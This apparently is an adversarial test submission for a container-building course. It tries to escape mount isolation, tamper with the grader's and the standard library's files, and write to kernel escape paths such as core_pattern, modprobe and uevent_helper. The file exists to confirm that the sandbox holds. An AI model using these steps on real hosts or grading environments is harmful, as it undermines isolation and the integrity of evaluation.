# attack: remounts what is read-only, mounts over the classroom, takes mounts away to see what they hide, and mounts
#   on the host's side
# fails: its mounts are in a namespace of its own, the old root is detached and not hidden, and the files belong to
#   nobody in the map
# status: graded|timeout
# says: nothing gained|ended

# %%exercise uts.set_names
import os

from minicontainer.linux import MNT_DETACH, MS_BIND, MS_REC, MS_REMOUNT, MS_SHARED, mount, umount2

gained = []


def attempt(what, act):
    try:
        if act() is not None:
            gained.append(what)
    except OSError:
        pass


def written(path):
    with open(path, "a") as file:
        return file.write("\n# the adversary was here\n")


attempt("shared", lambda: mount(None, "/", None, MS_REC | MS_SHARED))
for place in ("/usr", "/lib", "/classroom"):
    attempt(f"remount {place}", lambda place=place: mount(None, place, None, MS_REMOUNT | MS_BIND))
attempt("the classroom", lambda: written("/classroom/inside.py"))
attempt("the steps", lambda: written("/classroom/minicontainer/steps/uts.py"))
attempt("the library", lambda: written(f"{os.path.dirname(os.__file__)}/json/__init__.py"))
for path in (
    "/proc/sys/kernel/core_pattern",
    "/proc/sys/kernel/modprobe",
    "/proc/sys/vm/overcommit_memory",
    "/sys/kernel/uevent_helper",
):
    attempt(path, lambda path=path: written(path))
os.makedirs("@marker@", exist_ok=True)
os.makedirs("/run", exist_ok=True)
mount("tmpfs", "@marker@", "tmpfs")
mount("/run", "/classroom", None, MS_BIND)
for _ in range(20):
    for place in ("/classroom", "/usr", "/lib", "/proc", "/dev", "/"):
        attempt("hidden", lambda place=place: umount2(place, MNT_DETACH))
attempt("under the mounts", lambda: os.path.exists("@marker@/secret") or None)


def set_names(host, domain=None):
    raise RuntimeError(f"gained {gained}" if gained else "nothing gained")
